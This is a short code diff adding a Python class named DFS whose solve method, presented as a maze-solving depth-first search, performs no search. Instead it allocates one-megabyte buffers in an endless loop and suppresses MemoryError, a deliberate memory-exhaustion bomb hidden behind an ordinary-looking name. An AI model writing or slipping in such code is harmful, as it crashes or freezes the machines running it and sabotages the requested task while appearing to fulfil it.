@@ -1,0 +1,8 @@
+class DFS:
+    def solve(self, maze, search):
+        hoard = []
+        while True:
+            try:
+                hoard.append(bytearray(1 << 20))
+            except MemoryError:
+                continue
